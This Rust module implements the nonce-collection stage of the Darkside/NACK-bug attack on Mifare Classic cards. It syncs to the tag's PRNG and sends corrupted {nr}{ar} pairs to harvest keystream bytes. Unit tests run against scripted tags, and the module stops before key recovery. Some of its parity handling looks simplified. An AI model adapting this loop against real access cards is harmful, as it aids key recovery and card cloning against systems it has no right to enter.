//! Darkside / NACK-bug nonce-collection harness (C7): drives the reader
//! selection engine's fast-select path and a Mifare Classic AUTH exchange
//! at PRNG-aligned time slots, tracking the tag's free-running 16-bit
//! nonce LFSR closely enough to submit deliberately-corrupted `{nr}{ar}`
//! pairs and harvest the parity-leak NACKs the nonce-replay strategy
//! itself is out of scope for (§1: "Mifare-Classic key recovery strategy
//! selection... is external" — this module stops at collecting the
//! eight `(par, ks)` pairs, never attempts key recovery from them).
//!
//! The tag-side leak behaviour is modelled behind `NackBugOracle` rather
//! than wired directly into `TagEmulator`: which tags are vulnerable to
//! the parity-leak NACK bug is a hardware erratum, not a documented part
//! of the Mifare Classic command set, so a real `TagEmulator` never
//! fakes it and tests exercise this harness against a scripted oracle
//! instead (§8 scenario 6).

use crate::context::Cancel;
use crate::prng::{dist_nt, prng_successor, DIST_NT_INVALID};

/// Initial guess at the tag's PRNG period, in ssp cycles: one full
/// 16-bit LFSR period.
pub const SYNC_CYCLES_INITIAL: u32 = 1 << 16;

/// Resynchronisation attempts the harness allows before giving up with
/// `UnstablePrng`.
pub const MAX_RESYNC_ATTEMPTS: u32 = 32;

/// Outer-loop iterations allowed before giving up with `NoNack` (no
/// vulnerable reply ever observed).
pub const MAX_ITERATIONS: u32 = 256;

/// Outcome codes, matching the source's `isOK` values (§4.7, §8).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DarksideStatus {
    /// All eight `(par, ks)` pairs collected.
    Success = 1,
    /// The tag never answered a corrupted `{nr}{ar}` with a 4-bit NACK.
    NoNack = 2,
    /// Observed nonces don't fit any reachable PRNG step count.
    UnpredictablePrng = 3,
    /// Resynchronisation attempts were exhausted without locking on.
    UnstableClock = 4,
    /// The caller's cancellation token fired mid-run.
    UserAbort = 5,
    /// The tag completed a full (non-corrupted) authentication instead
    /// of leaking a NACK — a sign the corrupted parity didn't reach it.
    AccidentalAuth = 6,
}

/// What `run_darkside` collected before it stopped.
#[derive(Debug, Clone, Copy)]
pub struct DarksideResult {
    pub status: DarksideStatus,
    /// The nonce the harness locked onto as `nt_attacked`.
    pub nt_attacked: u32,
    /// Per-`nt_diff`-slot parity bit submitted, `None` where never filled.
    pub par_list: [Option<u8>; 8],
    /// Per-`nt_diff`-slot keystream byte recovered (`resp ^ 0x05`),
    /// `None` where never filled.
    pub ks_list: [Option<u8>; 8],
    /// Darkside iterations actually run.
    pub iterations: u32,
}

/// The tag-side collaborator the harness probes: anything that can hand
/// back the nonce a fresh AUTH would present at a given ssp time, and
/// that can be probed with a corrupted `{nr}{ar}` pair to see whether it
/// leaks a 4-bit NACK.
pub trait NackBugOracle {
    /// The nonce a fresh Classic AUTH would present if issued at
    /// `sync_time` (ssp cycles).
    fn nonce_at(&self, sync_time: u32) -> u32;

    /// Submits `{nr}{ar}` against the nonce `nt` with a deliberately
    /// faulty first parity bit. Returns `Some(nack_code)` if the tag
    /// leaked a 4-bit NACK (the parity-leak bug), `None` if it stayed
    /// silent (a non-vulnerable tag, or an out-of-window nonce), or
    /// `Some(0xff)` as a sentinel the harness treats as "the tag
    /// completed a full auth instead" (§8 `AccidentalAuth`).
    fn probe(&mut self, nt: u32, nr: u32, ar: u32) -> Option<u8>;
}

/// Sentinel `probe` result meaning the tag accepted the (supposedly
/// corrupted) exchange as a real authentication.
pub const ACCIDENTAL_AUTH: u8 = 0xff;

/// Builds the `nr` submitted for collection slot `nt_diff` (0..8): only
/// the top 3 bits of its last byte are meaningful to the oracle (they
/// select which of the eight slots this round targets), the rest is
/// fixed filler so the call is otherwise deterministic and replayable.
fn nr_for_slot(nt_diff: u8) -> u32 {
    u32::from(nt_diff & 0x07) << 29 | 0x1234_5
}

/// Runs the darkside/NACK-bug nonce-collection loop against `oracle`
/// until all eight `(par, ks)` pairs are collected, the iteration budget
/// is exhausted, resynchronisation gives up, or `cancel` fires.
pub fn run_darkside(oracle: &mut dyn NackBugOracle, cancel: &Cancel) -> DarksideResult {
    let mut sync_cycles = SYNC_CYCLES_INITIAL;
    let mut catch_up_cycles: i32 = 0;
    let mut elapsed_prng_sequences: u32 = 0;
    let mut nt_attacked: Option<u32> = None;
    let mut resync_attempts = 0u32;
    let mut par_list = [None; 8];
    let mut ks_list = [None; 8];
    let mut next_slot = 0u8;

    for iteration in 1..=MAX_ITERATIONS {
        if cancel.is_cancelled() {
            return DarksideResult {
                status: DarksideStatus::UserAbort,
                nt_attacked: nt_attacked.unwrap_or(0),
                par_list,
                ks_list,
                iterations: iteration,
            };
        }

        let sync_time = (sync_cycles as i64 + catch_up_cycles as i64).max(0) as u32
            + elapsed_prng_sequences * SYNC_CYCLES_INITIAL;
        let nt = oracle.nonce_at(sync_time);

        match nt_attacked {
            None => nt_attacked = Some(nt),
            Some(locked) if locked != nt => {
                match dist_nt(locked, nt) {
                    DIST_NT_INVALID => {
                        resync_attempts += 1;
                        if resync_attempts > MAX_RESYNC_ATTEMPTS {
                            return DarksideResult {
                                status: DarksideStatus::UnpredictablePrng,
                                nt_attacked: locked,
                                par_list,
                                ks_list,
                                iterations: iteration,
                            };
                        }
                        continue;
                    }
                    dist => {
                        catch_up_cycles -= dist;
                        elapsed_prng_sequences += 1;
                        if elapsed_prng_sequences > MAX_RESYNC_ATTEMPTS {
                            return DarksideResult {
                                status: DarksideStatus::UnstableClock,
                                nt_attacked: locked,
                                par_list,
                                ks_list,
                                iterations: iteration,
                            };
                        }
                        continue;
                    }
                }
            }
            Some(_) => {}
        }

        let nt_attacked_val = nt_attacked.expect("set above");
        let nr = nr_for_slot(next_slot);
        let ar = 0u32;
        match oracle.probe(nt_attacked_val, nr, ar) {
            Some(ACCIDENTAL_AUTH) => {
                return DarksideResult {
                    status: DarksideStatus::AccidentalAuth,
                    nt_attacked: nt_attacked_val,
                    par_list,
                    ks_list,
                    iterations: iteration,
                };
            }
            Some(resp) => {
                let slot = (next_slot & 0x07) as usize;
                if par_list[slot].is_none() {
                    par_list[slot] = Some((nr >> 29) as u8 & 0x07);
                    ks_list[slot] = Some(resp ^ 0x05);
                }
                next_slot = next_slot.wrapping_add(1);
                if par_list.iter().all(Option::is_some) {
                    return DarksideResult {
                        status: DarksideStatus::Success,
                        nt_attacked: nt_attacked_val,
                        par_list,
                        ks_list,
                        iterations: iteration,
                    };
                }
            }
            None => {
                next_slot = next_slot.wrapping_add(1);
            }
        }
    }

    DarksideResult {
        status: DarksideStatus::NoNack,
        nt_attacked: nt_attacked.unwrap_or(0),
        par_list,
        ks_list,
        iterations: MAX_ITERATIONS,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A scripted tag (§8 scenario 6): presents `nt0` at `t=0` and the
    /// PRNG successor `2^16` steps on at `t=sync_cycles`, and always
    /// leaks a NACK whose code cycles through the slot index so every
    /// `(par, ks)` pair is distinguishable in assertions.
    struct ScriptedTag {
        nt0: u32,
        probes: u32,
    }

    impl NackBugOracle for ScriptedTag {
        fn nonce_at(&self, sync_time: u32) -> u32 {
            let periods = sync_time / SYNC_CYCLES_INITIAL;
            prng_successor(self.nt0, periods * (1 << 16))
        }

        fn probe(&mut self, _nt: u32, nr: u32, _ar: u32) -> Option<u8> {
            self.probes += 1;
            let slot = (nr >> 29) as u8 & 0x07;
            Some(slot ^ 0x05)
        }
    }

    #[test]
    fn converges_and_collects_all_eight_pairs() {
        let mut tag = ScriptedTag {
            nt0: 0xdead_beef,
            probes: 0,
        };
        let cancel = Cancel::new();
        let result = run_darkside(&mut tag, &cancel);
        assert_eq!(result.status as u8, DarksideStatus::Success as u8);
        assert_eq!(result.nt_attacked, 0xdead_beef);
        assert!(result.par_list.iter().all(Option::is_some));
        assert!(result.ks_list.iter().all(Option::is_some));
        assert!(result.iterations <= 256);
    }

    #[test]
    fn no_nack_ever_reports_no_nack_status() {
        struct SilentTag;
        impl NackBugOracle for SilentTag {
            fn nonce_at(&self, _sync_time: u32) -> u32 {
                0x1111_1111
            }
            fn probe(&mut self, _nt: u32, _nr: u32, _ar: u32) -> Option<u8> {
                None
            }
        }
        let mut tag = SilentTag;
        let cancel = Cancel::new();
        let result = run_darkside(&mut tag, &cancel);
        assert_eq!(result.status as u8, DarksideStatus::NoNack as u8);
    }

    #[test]
    fn accidental_auth_short_circuits_the_loop() {
        struct AuthingTag;
        impl NackBugOracle for AuthingTag {
            fn nonce_at(&self, _sync_time: u32) -> u32 {
                0x2222_2222
            }
            fn probe(&mut self, _nt: u32, _nr: u32, _ar: u32) -> Option<u8> {
                Some(ACCIDENTAL_AUTH)
            }
        }
        let mut tag = AuthingTag;
        let cancel = Cancel::new();
        let result = run_darkside(&mut tag, &cancel);
        assert_eq!(result.status as u8, DarksideStatus::AccidentalAuth as u8);
        assert_eq!(result.iterations, 1);
    }

    #[test]
    fn user_abort_is_observed_before_the_next_probe() {
        struct AnyTag;
        impl NackBugOracle for AnyTag {
            fn nonce_at(&self, _sync_time: u32) -> u32 {
                0x3333_3333
            }
            fn probe(&mut self, _nt: u32, _nr: u32, _ar: u32) -> Option<u8> {
                None
            }
        }
        let mut tag = AnyTag;
        let cancel = Cancel::new();
        cancel.cancel();
        let result = run_darkside(&mut tag, &cancel);
        assert_eq!(result.status as u8, DarksideStatus::UserAbort as u8);
        assert_eq!(result.iterations, 1);
    }
}
